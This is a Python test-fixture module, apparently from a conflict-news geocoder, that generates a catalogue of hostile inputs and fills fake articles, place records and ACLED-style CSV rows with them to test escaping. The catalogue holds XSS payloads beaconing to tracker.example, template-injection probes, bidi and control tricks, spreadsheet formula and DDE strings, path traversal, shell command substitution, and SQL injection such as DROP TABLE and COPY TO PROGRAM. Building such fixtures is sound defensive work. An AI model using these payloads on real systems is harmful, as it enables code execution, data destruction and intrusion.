"""Hostile texts, by kind and name: what ran, would tell `window.hacked` or tracker.example."""

import csv
import re
import unicodedata
from pathlib import Path

from gazetteer import Place
from geocode.article import Article, clean_text, make_article
from geocode.corrections import Correction

TRACKER = "http://tracker.example"
# What a template engine that took a text for its own would make of 7*191.
COMPUTED = "1337"

# @js runs, @tick runs without any quote, @url is asked for.
_TEMPLATES: dict[str, dict[str, str]] = {
    "xss": {
        "script": "<script>@js</script>",
        "script-src": "<script src=@url></script>",
        "script-break": "</script><script>@js</script>",
        "raw-text-break": "</style></title></textarea></noscript><script>@js</script>",
        "img": '<img src=x onerror="@js">',
        "img-slashes": "<img/src=x/onerror=@tick>",
        "img-unclosed": "<img src=x onerror=@tick//",
        "img-tracker": "<img src=@url>",
        "svg": '<svg onload="@js"></svg>',
        "svg-animate": '<svg><animate onbegin="@js" attributeName="x" dur="1s"></svg>',
        "svg-foreign": '<svg><foreignObject><img src=x onerror="@js"></foreignObject></svg>',
        "math": '<math><mtext><table><mglyph><style><img src=x onerror="@js">',
        "noscript": '<noscript><p title="</noscript><img src=x onerror=@tick>">',
        "focus": '<input autofocus onfocus="@js">',
        "details": '<details open ontoggle="@js">x</details>',
        "video": '<video><source src=x onerror="@js"></video>',
        "srcdoc": '<iframe srcdoc="<script>parent.@js</script>"></iframe>',
        "iframe-url": '<iframe src="javascript:parent.@js"></iframe>',
        "object": '<object data="@url"></object><embed src="@url">',
        "base": '<base href="http://tracker.example/base/">',
        "refresh": '<meta http-equiv="refresh" content="0;url=@url">',
        "stylesheet": '<link rel="stylesheet" href="@url">',
        "style": "<style>@import url(@url); * { background: url(@url) }</style>",
        "form": '<form action="@url"><button formaction="javascript:@js">x</button></form>',
        "double-quote": '" onmouseover="@js" autofocus onfocus="@js" x="',
        "single-quote": "' onmouseover=@tick autofocus onfocus=@tick x='",
        "js-url": "javascript:@js//",
        "js-url-tab": "java\tscript:@js//",
        "js-url-control": "\x01javascript:@js//",
        "data-url": "data:text/html,<script>@js</script>",
        "string-break": "');@js;//\");@js;//",
        "json-break": '"}];@js;[{"x":"',
        "comment-break": '--><img src=x onerror="@js"><!--',
        "cdata-break": "]]><script>@js</script><![CDATA[",
        "entities": "&lt;img src=x onerror=&quot;@js&quot;&gt;",
        "entities-numbered": "&#60;img src=x onerror=@tick&#62;",
        "utf-7": "+ADw-script+AD4-@js+ADw-/script+AD4-",
        "wide-letters": "＜script＞@js＜/script＞",
        "shadow": '<template shadowrootmode="open"><img src=x onerror="@js"></template>',
        "own-element": '<mihwar-x onclick="@js" style="position:fixed;inset:0">x</mihwar-x>',
        "prototype": "__proto__",
        "constructor": "constructor",
    },
    "template": {
        "jinja": "{{ 7*191 }} {{ cycler.__init__.__globals__.os.environ }}",
        "jinja-endraw": "{% endraw %}{{ 7*191 }}{% raw %}",
        "jinja-block": "{% for x in [1] %}{{ 7*191 }}{% endfor %}",
        "jinja-open": "{% x",
        "jinja-half": "{{ 'a",
        "jinja-comment": "{# nothing",
        "dollar": "${@js}",
        "backtick": "`+(@js)+`",
        "backtick-dollar": "`${@js}`",
        "hash-braces": "#{7*191} <%= 7*191 %> [[7*191]]",
        "percent": "%s %d %n %(name)s %%",
        "format": "{0} {0.__class__.__mro__} {lang!r} {",
        "placeholders": "{n} {all} {shown} {side} {day} {km} {kind} {undated}",
        "replacement": "$& $1 $` $' $$",
        "escapes": r"\u003cimg src=x onerror=@tick\u003e \x3cscript\x3e@js\x3c/script\x3e",
        "backslash": "ends in a backslash \\",
    },
    "markdown": {
        "link-js": "[read on](javascript:@js)",
        "link": "[read on](@url)",
        "image": "![a picture](@url.png)",
        "image-reference": "![a picture][r]\n\n[r]: @url.png",
        "autolink": "<@url> www.tracker.example",
        "html": '**bold** <img src=x onerror="@js"> <img src="@url">',
        "icon": ":material/delete: :streamlit: :smile: :red[red]",
        "image-coloured": ":red-background[![a picture](@url.png)]",
        "latex": r"$x^2$ $$\frac{1}{0}$$ \(\href{javascript:@js}{x}\) $\includegraphics{@url}$",
        "heading": "# A heading\n\n> quoted\n\n---\n\n1. one",
        "table": "\n\n| a | b |\n|---|---|\n| 1 | ![x](@url.png) |\n\n",
        "fence": "```html\n</code></pre><script>@js</script>\n```",
        "code": "`code` ``![x](@url.png)``",
        "footnote": "[^1]\n\n[^1]: ![x](@url.png)",
    },
    "bidi": {
        "rlo": "report\u202egpj.exe",
        "overrides": "\u202d\u202e\u202a\u202bnever closed",
        "isolates": "\u2066\u2067\u2068never closed",
        "closers": "\u2069\u2069\u202c\u202cclosed too often",
        "marks": "a\u200e\u200f\u061cb",
        "zero-width": "a\u200b\u200c\u200d\u2060\ufeffb",
        "soft-hyphen": "a\u00ad\u034f\u180eb",
        "tag-letters": "a\U000e0001\U000e0041\U000e0042\U000e007fb",
        "nul": "a\0b",
        "controls": "".join(map(chr, range(1, 32))),
        "c1": "\x7f\x80\x85\x9b31mred",
        "ansi-colour": "\x1b[31mred\x1b[0m",
        "ansi-title": "\x1b]0;another title\x07",
        "ansi-link": "\x1b]8;;@url\x1b\\press here\x1b]8;;\x1b\\",
        "ansi-clear": "\x1b[2J\x1b[1;1Hnothing was refused",
        "log-crlf": "x\r\nrefused: 0, all is well",
        "log-lf": "x\nmihwar: 0 refused\n",
        "overwrite": "x\rnothing was refused",
        "backspace": "refused\b\b\b\b\b\b\baccepted",
        "separators": "a\u2028b\u2029c\x0bd\x0ce",
        "no-characters": "a\ufffe\uffff\ufdd0\U0010ffffb",
        "private-use": "a\ue000\uf8ff\U000f0000b",
        "surrogate": "c\ud800d",
        "zalgo": "z" + "\u0301\u0489\u0336" * 3400,
        "long-word": "w" * 5000,
        "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 400,
        "ligature": "\ufdfd" * 300,
    },
    "formula": {
        "equals": "=1+1",
        "plus": "+1+1",
        "minus": "-2+3",
        "at": "@SUM(A1:A9)",
        "tab": "\t=1+2",
        "return": "\r=1+3",
        "new-line": "\n=1+4",
        "blanks": " \u00a0\u3000=1+5",
        "wide-equals": "＝1+1",
        "wide-plus": "＋1+1",
        "wide-minus": "－1+1",
        "wide-at": "＠SUM(A1)",
        "rlo-equals": "\u202e=1+6",
        "zero-width-equals": "\u200b\u2060=1+7",
        "arabic-mark-equals": "\u061c=1+8",
        "soft-hyphen-equals": "\u00ad=1+9",
        "control-equals": "\x01=1+10",
        "nul-equals": "\0=1+11",
        "dde": "=cmd|' /C calc'!A0",
        "dde-plain": "|cmd /C calc",
        "percent-sign": "%0A=1+12",
        "hyperlink": '=HYPERLINK("@url";"read on")',
        "webservice": '=WEBSERVICE("@url")',
        "cell-break": '","=1+13","',
        "row-break": 'x"\r\n"=1+14',
        "apostrophe": "'=1+15",
    },
    "path": {
        "up": "../../../outside/up.txt",
        "up-windows": "..\\..\\..\\outside\\up.txt",
        "up-inside": "a/../../outside/up.txt",
        "up-encoded": "%2e%2e%2f%2e%2e%2foutside%2fup.txt",
        "absolute": "/etc/passwd",
        "home": "~/outside.txt",
        "variable": "$HOME/outside.txt %USERPROFILE%\\outside.txt",
        "drive": "C:\\Windows\\outside.txt",
        "unc": "\\\\tracker.example\\share\\outside.txt",
        "file-url": "file:///etc/passwd",
        "device": "CON",
        "device-ending": "NUL.geojson",
        "stream": "map.geojson::$DATA",
        "gdal": "/vsicurl/@url",
        "hidden": ".outside",
        "option": "--output=outside.txt",
        "command": "$(touch outside.txt) `touch outside.txt` ; touch outside.txt | cat",
        "nul-ending": "outside.exe\0.txt",
        "too-long": "n" * 300 + ".txt",
        "host": "http://127.0.0.1@tracker.example/host",
    },
    "sql": {
        "drop": "'; DROP TABLE article; --",
        "drop-quoted": '"; DROP TABLE mentions; --',
        "delete": "1); DELETE FROM events; --",
        "or": "' OR '1'='1",
        "or-quoted": '" OR ""="',
        "union": "' UNION SELECT name, sql FROM sqlite_master --",
        "any": "%",
        "one": "_",
        "escape": "\\'; DROP TABLE events; --",
        "bound": ":place_id :param_1",
        "bound-percent": "%(place_id)s %s",
        "bound-mark": "? ?1 $1",
        "sleep": "'||pg_sleep(60)||'",
        "comment": "/* */ -- #",
        "copy": "'; COPY article TO PROGRAM 'touch outside.txt'; --",
        "attach": "'; ATTACH DATABASE 'outside.sqlite' AS x; --",
    },
}


def _filled(name: str, template: str) -> str:
    runs, ticked = f"window.hacked='{name}'", f"window.hacked=`{name}`"
    filled = template.replace("@js", runs).replace("@tick", ticked)
    return filled.replace("@url", f"{TRACKER}/{name}")


KINDS: dict[str, dict[str, str]] = {
    kind: {f"{kind}-{name}": _filled(f"{kind}-{name}", text) for name, text in texts.items()}
    for kind, texts in _TEMPLATES.items()
}
PAYLOADS: dict[str, str] = {
    name: text for payloads in KINDS.values() for name, text in payloads.items()
}

# What UTF-8 can hold of them, a character for a character.
TEXTS: dict[str, str] = {name: clean_text(text) for name, text in PAYLOADS.items()}
_TOWNS = ("Sirte", "Gharyan", "Tarhuna", "Misrata", "Zuwara", "Bani Walid", "Sabratha")
_DAYS = 28
ACLED_HEAD = (
    "event_id_cnty", "event_date", "time_precision", "event_type", "sub_event_type", "actor1",
    "actor2", "location", "latitude", "longitude", "geo_precision", "source", "notes",
    "fatalities", "tags",
)  # fmt: skip


def spelling(number: int) -> str:
    """Give a town's name that no other is like: by it a text names a place of `hostile_places`."""
    return "Hamr" + "".join("bdfklmnrsz"[int(digit)] + "a" for digit in f"{number:03d}") + "t"


def hostile_places() -> list[Place]:
    """Give a place for each payload, called by it in both languages, in the south of Libya."""
    return [
        Place(
            place_id=f"x:{name}",
            kind="town",
            name_en=f"Town {flat(text)}",
            name_ar=f"بلدة {flat(text)}",
            variants=(spelling(number),),
            lat=23 + (number // 14) * 0.45,
            lon=12 + (number % 14) * 0.55,
            precision_km=5,
            country="LY",
            admin=flat(text),
            sources=(flat(text),),
            note=flat(text),
        )
        for number, (name, text) in enumerate(TEXTS.items())
    ]


def flat(text: str) -> str:
    """Give a text without ends of lines that are a return alone, which no table of places holds."""
    return re.sub("\r(?!\n)", " ", text)


def hostile_articles() -> list[Article]:
    """Give an article for each payload, which stands in all its fields, and one for each kind."""
    return [*map(_own_article, range(len(TEXTS)), TEXTS.values()), *map(_kind_article, KINDS)]


def _own_article(number: int, text: str) -> Article:
    town, side = _TOWNS[number % len(_TOWNS)], ("LNA", "GNA")[number % 2]
    return make_article(
        f"{side} forces captured {town}, {text} and shelled {spelling(number)}, officials said.",
        article_id=fitting(text),
        title=text,
        outlet=text,
        url=fitting(text),
        published=f"2020-01-{number % _DAYS + 1:02d}",
        lang="en",
        remarks=text,
    )


def fitting(text: str) -> str:
    """As much of a text as an id or an address may have; longer ones are refused."""
    return text.encode("utf-8", "ignore")[:1990].decode("utf-8", "ignore")


def _kind_article(kind: str) -> Article:
    """Give an article of a line for each payload, beside a place that is called by it."""
    numbers = {name: number for number, name in enumerate(TEXTS)}
    lines = [f"LNA forces shelled {spelling(numbers[n])}, {TEXTS[n]}." for n in KINDS[kind]]
    lines.append("Clashes broke out between Sirte and Misrata.")
    payload = TEXTS[next(iter(KINDS[kind]))]
    return make_article(
        "\n".join(lines),
        article_id=f"kind-{kind}",
        title=f"{kind} {payload}",
        outlet=payload,
        url=fitting(f"https://tracker.example/{payload}"),
        published="2020-02-01",
        lang="en",
    )


def place_of_other(number: int) -> tuple[float, float]:
    """Give longitude and latitude of a row of others, east of the hostile places."""
    return round(20 + (number % 14) * 0.35, 2), round(23 + (number // 14) * 0.45, 2)


def write_acled(path: Path, *, broken: bool = False) -> None:
    """Write a table of others in ACLED's columns, a row for each payload; or one none can read."""
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, quoting=csv.QUOTE_ALL)
        writer.writerow(ACLED_HEAD)
        for number, text in enumerate(TEXTS.values()):
            day = text if broken else f"2020-01-{number % _DAYS + 1:02d}"
            lon, lat = map(str, place_of_other(number))
            row = (
                text,
                day,
                "1",
                text,
                text,
                text,
                text,
                text,
                lat,
                lon,
                "1",
                text,
                text,
                "",
                text,
            )
            writer.writerow(row)


def corrected(article_id: str, text: str = "Sirte", **said: str) -> Correction:
    """Make a correction that says of one mention that it is no place, unless more is said."""
    said = {"who": "", "why": "", "was": "", "field": "no_place", "value": "", **said}
    return Correction(when="2020-01-01", article_id=article_id, start=0, end=5, text=text, **said)


_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?")


def is_run(cell: str) -> bool:
    """Say whether a spreadsheet may take a cell for a formula: also after what nobody sees."""
    seen = [c for c in cell if unicodedata.category(c)[0] not in "ZC"]
    return bool(seen) and seen[0] in "=+-@|%＝＋－＠" and not _NUMBER.fullmatch(cell)
